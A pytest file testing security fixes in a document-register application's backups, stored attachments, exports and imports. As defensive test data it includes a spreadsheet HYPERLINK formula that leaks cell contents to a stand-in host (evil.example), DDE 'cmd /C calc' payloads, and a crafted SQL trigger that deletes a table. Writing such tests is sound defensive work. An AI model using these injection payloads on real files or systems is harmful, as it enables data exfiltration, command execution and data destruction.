"""What an attack run found in backups, kept files, exports and imports (issue 10): a crafted backup,
a missing or linked attached file, files others can read, formulas in exports, dates an import skipped,
and pyHanko's warnings. Each test failed on the code before the fix."""

import builtins
import csv
import datetime as dt
import io
import json
import os
import stat
import threading
import warnings
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from dirdesk.cli import main
from dirdesk.registers import DatabaseRefused, RegisterError, backup, importing, incoming, open_registry
from dirdesk.registers import attachments as kept
from dirdesk.registers.columns import year_period
from dirdesk.registers.database import backups_dir, files_dir
from dirdesk.registers.export import export_register
from dirdesk.registers.importing import import_register
from tests import test_backup
from tests.test_backup import build_register, dump, edit_db, read_members, write_members

POSIX = os.name == "posix"
# Fixtures: a built register (three outgoing, two incoming entries, nine files) and its backup; a copy of it.
built, register = test_backup.built, test_backup.register
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def crafted(tmp_path, source: Path, *statements: str, manifest_changes: dict | None = None) -> Path:
    """The backup with its database edited and the manifest made to agree (a careful forger)."""
    members = read_members(source)
    if statements:
        members["dirdesk.sqlite"] = edit_db(members["dirdesk.sqlite"], tmp_path, *statements)
    if manifest_changes:
        manifest = json.loads(members["manifest.json"])
        manifest.update(manifest_changes)
        members["manifest.json"] = json.dumps(manifest).encode()
    path = tmp_path / "crafted.zip"
    write_members(path, members, rehash=True)
    return path


# ---------------------------------------------------------------- 1. a crafted backup


@pytest.mark.parametrize("statement", [
    "CREATE TRIGGER wipe AFTER INSERT ON incoming BEGIN DELETE FROM outgoing; END",
    "CREATE VIEW spy AS SELECT * FROM outgoing",
    "CREATE INDEX extra ON outgoing (subject)",
    "CREATE TABLE extra (x)",
])
def test_a_backup_carrying_schema_the_migrations_do_not_make_is_refused(tmp_path, built, register, statement):
    before = dump(register)
    path = crafted(tmp_path, built[1], statement)
    with pytest.raises(DatabaseRefused, match="lược đồ lạ"):
        backup.verify_backup(path)
    with pytest.raises(DatabaseRefused, match="lược đồ lạ"):
        backup.restore_backup(path, register)
    assert dump(register) == before
    with open_registry(register) as reg:
        incoming.add(reg, incoming.IncomingEntry(received_date=dt.date(2021, 12, 1), subject="Sau đó"))
        assert reg.one("SELECT count(*) AS n FROM outgoing")["n"] == 3


def test_a_table_redefined_without_its_checks_is_refused(tmp_path, built):
    path = crafted(tmp_path, built[1], "PRAGMA writable_schema = ON",
                   "UPDATE sqlite_master SET sql = replace(sql, 'CHECK (number > 0)', '') WHERE name = 'outgoing'")
    with pytest.raises(DatabaseRefused, match="«outgoing» bị sửa định nghĩa"):
        backup.verify_backup(path)


def test_the_restore_summary_is_read_from_the_database_not_the_manifest(tmp_path, built, capsys):
    path = crafted(tmp_path, built[1], manifest_changes={
        "office": "CƠ QUAN GIẢ MẠO", "counts": {"outgoing": 999, "incoming": 999, "drafts": 999, "attachments": 1}})
    target = tmp_path / "r" / "dirdesk.sqlite"
    result = backup.restore_backup(path, target)
    assert result.manifest.office == "ĐẢNG ỦY PHƯỜNG BÁCH QUANG"
    assert result.manifest.counts == {"outgoing": 3, "incoming": 2, "drafts": 0, "attachments": 9}
    assert main(["restore", str(path), "--db", str(tmp_path / "r2.sqlite")]) == 0
    out = capsys.readouterr().out
    assert "GIẢ MẠO" not in out and "999" not in out and "văn bản đi: 3" in out


def test_a_backup_of_an_older_schema_still_restores_and_is_migrated(tmp_path, monkeypatch):
    from dirdesk.registers import database, schema

    old = tmp_path / "old.sqlite"
    monkeypatch.setattr(database, "MIGRATIONS", schema.MIGRATIONS[:2])
    monkeypatch.setattr(database, "SCHEMA_VERSION", 2)
    monkeypatch.setattr(incoming, "trust_of", lambda reg: None)  # a version 2 register has no trusted list
    build_register(old)
    with open_registry(old) as reg:
        zip_path = backup.make_backup(reg, tmp_path / "v2.zip")
    monkeypatch.undo()
    assert backup.verify_backup(zip_path).schema_version == 2 < schema.SCHEMA_VERSION
    target = tmp_path / "r" / "dirdesk.sqlite"
    backup.restore_backup(zip_path, target)
    with open_registry(target) as reg:
        assert reg.conn.execute("PRAGMA user_version").fetchone()[0] == schema.SCHEMA_VERSION
        assert reg.one("SELECT count(*) AS n FROM outgoing")["n"] == 3


def test_nothing_but_sqlite_opens_the_register_file_in_backup_and_restore(register, built, monkeypatch):
    """Closing any descriptor on the register drops SQLite's locks (database.py, THE RULE)."""
    names = {str(register.resolve()) + suffix for suffix in ("", "-wal", "-shm", "-journal")}
    opened = []
    real_open, real_os_open = builtins.open, os.open

    def spy_open(file, *args, **kwargs):
        if isinstance(file, (str, Path)) and os.path.abspath(file) in names:
            opened.append(str(file))
        return real_open(file, *args, **kwargs)

    def spy_os_open(file, *args, **kwargs):
        if isinstance(file, (str, Path)) and os.path.abspath(file) in names:
            opened.append(str(file))
        return real_os_open(file, *args, **kwargs)

    with open_registry(register) as reg:
        incoming.add(reg, incoming.IncomingEntry(received_date=dt.date(2021, 12, 1), subject="Trong WAL"))
        monkeypatch.setattr(builtins, "open", spy_open)
        monkeypatch.setattr(io, "open", spy_open)
        monkeypatch.setattr(os, "open", spy_os_open)
        backup.write_backup(reg)
        with pytest.raises(RegisterError, match="đang được mở"):  # refused while this process holds it
            backup.restore_backup(built[1], register)
    result = backup.restore_backup(built[1], register)
    monkeypatch.undo()
    assert opened == []
    assert len(dump(result.safety_copy)["incoming"]) == 3  # the safety copy has what was in the WAL


# ---------------------------------------------------------------- 2. a missing attached file


def incoming_pdf(db: Path) -> Path:
    with open_registry(db) as reg:
        sha = reg.one("SELECT sha256 FROM incoming_files WHERE name = 'cong-van.pdf'")["sha256"]
        return kept.attachment_path(reg, sha)


LABEL = "Văn bản đến số 01/2021 (12/UBND-VP): cong-van.pdf"


def test_a_backup_with_a_missing_file_backs_up_the_rest_and_names_the_entry(register, tmp_path, capsys):
    pdf = incoming_pdf(register)
    pdf.unlink()
    target = tmp_path / "b.zip"
    assert main(["backup", str(target), "--db", str(register)]) == 0
    captured = capsys.readouterr()
    assert f"{LABEL} (mất)" in captured.out and "cảnh báo" in captured.err
    assert pdf.stem[:12] not in captured.out + captured.err  # no hash paths
    manifest = backup.verify_backup(target)
    assert [(d["label"], d["problem"]) for d in manifest.damaged] == [(LABEL, "mất")]
    assert len(manifest.file_members) == 8
    with open_registry(register) as reg:
        assert kept.missing_attachments(reg) == [kept.MissingAttachment(pdf.stem, ".pdf", LABEL, "mất")]
    assert main(["backup", str(tmp_path / "strict.zip"), "--strict", "--db", str(register)]) == 2
    assert LABEL in capsys.readouterr().err and not (tmp_path / "strict.zip").exists()


def test_reattach_takes_only_the_same_content(register, built, tmp_path):
    pdf = incoming_pdf(register)
    good = pdf.read_bytes()
    pdf.write_bytes(b"hong")
    other = tmp_path / "khac.pdf"
    other.write_bytes(b"%PDF-1.4 another document")
    right = tmp_path / "cv-ban-cu.pdf"
    right.write_bytes(good)
    with open_registry(register) as reg:
        assert [m.problem for m in kept.missing_attachments(reg)] == ["hỏng"]
        with pytest.raises(RegisterError, match="mã băm không khớp"):
            kept.reattach(reg, pdf.stem, other)
        assert pdf.read_bytes() == b"hong"
        kept.reattach(reg, pdf.stem, right)
        assert kept.missing_attachments(reg) == []
        assert kept.read_attachment(reg, pdf.stem) == good
        assert backup.write_backup(reg, tmp_path / "b.zip")[1].damaged == []


def test_forget_missing_is_audited_and_backups_stop_flagging_it(register, tmp_path):
    pdf = incoming_pdf(register)
    pdf.unlink()
    with open_registry(register) as reg:
        with pytest.raises(RegisterError, match="lý do"):
            kept.forget_missing(reg, pdf.stem, "  ")
        assert kept.forget_missing(reg, pdf.stem, "Ổ đĩa hỏng, không còn bản nào") == 1
        audit = reg.one("SELECT * FROM audit WHERE table_name = 'attachments' ORDER BY id DESC")
        assert audit["action"] == "lost" and "Ổ đĩa hỏng" in audit["new"]
        assert kept.missing_attachments(reg) == []
        path, manifest = backup.write_backup(reg, tmp_path / "b.zip")
    assert manifest.damaged == []
    result = backup.restore_backup(path, tmp_path / "r" / "dirdesk.sqlite")  # the lost file is not required
    assert result.files_added == 8


# ---------------------------------------------------------------- 3. files the user's alone, no links


def private(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) & 0o077 == 0


@pytest.mark.skipif(not POSIX, reason="POSIX permissions")
def test_register_files_backups_and_exports_are_the_users_alone(tmp_path):
    old_umask = os.umask(0o022)
    try:
        db = tmp_path / "office" / "dirdesk.sqlite"
        build_register(db)
        with open_registry(db) as reg:
            zip_path = backup.make_backup(reg)
            export = tmp_path / "so-den.xlsx"
            export_register(reg, "incoming", year_period(2021), "xlsx", export)
        restored = tmp_path / "office" / "restored.sqlite"
        backup.restore_backup(zip_path, restored)
        result = backup.restore_backup(zip_path, restored)
    finally:
        os.umask(old_umask)
    kept_files = [p for p in files_dir(db).rglob("*")]
    for path in [db, zip_path, backups_dir(db), export, restored, result.safety_copy, files_dir(restored),
                 *kept_files, *files_dir(restored).rglob("*")]:
        assert private(path), f"{path} {oct(path.stat().st_mode)}"


@pytest.mark.skipif(not POSIX, reason="symbolic links")
def test_a_link_among_the_kept_files_is_never_followed(register, tmp_path):
    pdf = incoming_pdf(register)
    secret = tmp_path / "shadow"
    secret.write_bytes(pdf.read_bytes())  # even with the very content the register expects
    pdf.unlink()
    pdf.symlink_to(secret)
    with open_registry(register) as reg:
        with pytest.raises(RegisterError, match="liên kết"):
            kept.read_attachment(reg, pdf.stem)
        assert [(m.label, m.problem) for m in kept.missing_attachments(reg)] == [(LABEL, "hỏng")]
        path, manifest = backup.write_backup(reg, tmp_path / "b.zip")
        assert f"files/{pdf.parent.name}/{pdf.name}" not in read_members(path)
        # Storing that content again replaces the link by a file of its own.
        with reg.transaction():
            kept.store_bytes(reg, secret.read_bytes(), ".pdf")
    assert not pdf.is_symlink() and pdf.read_bytes() == secret.read_bytes()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs")
def test_a_fifo_among_the_kept_files_does_not_block_a_backup(register, tmp_path):
    pdf = incoming_pdf(register)
    pdf.unlink()
    os.mkfifo(pdf)
    done = []

    def run_backup():
        with open_registry(register) as reg:
            done.append(backup.write_backup(reg, tmp_path / "b.zip")[1])

    worker = threading.Thread(target=run_backup, daemon=True)  # before the fix: blocked forever
    worker.start()
    worker.join(20)
    assert done, "the backup blocked on a FIFO"
    assert [(d["label"], d["problem"]) for d in done[0].damaged] == [(LABEL, "hỏng")]


@pytest.mark.skipif(not POSIX, reason="symbolic links")
def test_reattach_refuses_a_link(register, tmp_path):
    pdf = incoming_pdf(register)
    copy = tmp_path / "copy.pdf"
    copy.write_bytes(pdf.read_bytes())
    link = tmp_path / "link.pdf"
    link.symlink_to(copy)
    pdf.unlink()
    with open_registry(register) as reg, pytest.raises(RegisterError, match="liên kết"):
        kept.reattach(reg, pdf.stem, link)


# ---------------------------------------------------------------- 4. formulas in exports


@pytest.fixture
def hostile(tmp_path):
    with open_registry(tmp_path / "so.sqlite") as reg:
        incoming.add(reg, incoming.IncomingEntry(received_date=dt.date(2026, 3, 2), author=AT_FORMULA, symbol="+1-2",
                                                 subject=HYPERLINK, note="- Như trên", handler=DDE))
        yield reg


def test_xlsx_writes_formula_like_text_as_text(hostile, tmp_path):
    path = tmp_path / "so-den.xlsx"
    export_register(hostile, "incoming", year_period(2026), "xlsx", path)
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    values = {c.value for row in load_workbook(path).active.iter_rows() for c in row if isinstance(c.value, str)}
    assert {HYPERLINK, DDE, "+1-2", "- Như trên", AT_FORMULA} <= values


def test_csv_escapes_formula_like_text(hostile, tmp_path):
    path = tmp_path / "so-den.csv"
    export_register(hostile, "incoming", year_period(2026), "csv", path)
    cells = {c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for c in row}
    assert {"'" + HYPERLINK, "'" + DDE, "'+1-2", "'- Như trên"} <= cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


# ---------------------------------------------------------------- 5. imports


def write_csv(path: Path, rows) -> Path:
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def test_import_reads_excel_day_numbers_and_ngay_dates_and_reports_empty_and_duplicate_rows(tmp_path):
    with open_registry(tmp_path / "so.sqlite") as reg:
        incoming.add(reg, incoming.IncomingEntry(received_date=dt.date(2026, 1, 2), author="Sở Nội vụ",
                                                 symbol="7/SNV", subject="Đã có trong sổ"))
        path = write_csv(tmp_path / "so-den.csv", [
            ["Ngày đến", "Số đến", "Tác giả", "Số, ký hiệu", "Trích yếu"],
            ["46025", "", "UBND phường", "1/UBND", "Ngày ghi bằng số của Excel"],  # row 2
            ["ngày 03/01/2026", "", "Huyện ủy", "2-CV/HU", "Ngày có chữ ngày"],  # row 3
            ["03/01/2026", "", "", "", ""],  # row 4: which document?
            ["04/01/2026", "", "huyện ủy", "2-cv/hu", "Lặp lại dòng 3"],  # row 5
            ["04/01/2026", "", "Sở Nội vụ", "7/SNV", "Đã có trong sổ"],  # row 6
        ])
        report = import_register(reg, "incoming", path)
        rows = reg.query("SELECT received_date, symbol FROM incoming WHERE symbol <> '7/SNV' ORDER BY number")
    assert rows == [{"received_date": "2026-01-03", "symbol": "1/UBND"},
                    {"received_date": "2026-01-03", "symbol": "2-CV/HU"}]
    assert report.imported == 2
    assert [(s.row, s.kind) for s in report.skipped_rows] == [(4, importing.SKIP_EMPTY), (5, importing.SKIP_DUPLICATE),
                                                               (6, importing.SKIP_DUPLICATE)]
    assert "dòng 3" in report.skipped_rows[1].reason and "đã có trong sổ" in report.skipped_rows[2].reason
    assert report.to_dict()["skipped_rows"][1]["kind"] == "duplicate"


# ---------------------------------------------------------------- 6. pyHanko's deprecation warnings


def test_reading_signatures_prints_no_pyhanko_deprecation_warning(monkeypatch):
    import pyhanko.sign.validation as validation

    from dirdesk.intake.signatures import read_signatures
    from tests.signing import rendered_pdf, sign

    pdf = sign(rendered_pdf())
    real = validation.validate_pdf_signature

    def deprecated(*args, **kwargs):
        warnings.warn("Relying on the operating system's trust list is deprecated", DeprecationWarning,
                      stacklevel=2)
        warnings.warn("something real", UserWarning, stacklevel=2)
        return real(*args, **kwargs)

    monkeypatch.setattr(validation, "validate_pdf_signature", deprecated)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        (sig,) = read_signatures(pdf)
    assert sig["signer"] == "NGUYEN VAN A" and sig["intact"]
    assert [(w.category, str(w.message)) for w in caught] == [(UserWarning, "something real")]
    assert not any(f[2] is DeprecationWarning and f[0] == "ignore" and f[1] is not None
                   and "trust list" in f[1].pattern for f in warnings.filters)  # put back afterwards
